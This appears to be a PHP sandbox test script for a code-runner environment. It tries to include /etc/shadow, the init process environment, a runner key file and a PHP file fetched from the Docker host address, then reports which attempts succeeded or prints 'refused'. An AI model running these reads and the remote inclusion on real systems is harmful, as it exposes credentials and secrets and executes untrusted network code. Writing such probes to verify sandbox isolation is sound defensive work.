<?php
// Includes files of root's and addresses of the network as if they were its own code.
$got = [];
foreach (['/etc/shadow', '/proc/1/environ', '/run/code-runner/key', 'http://172.17.0.1:9/code.php'] as $path) {
    if ((@include $path) !== false) {
        $got[] = $path;
    }
}
echo implode(', ', $got) ?: 'refused', "\n";
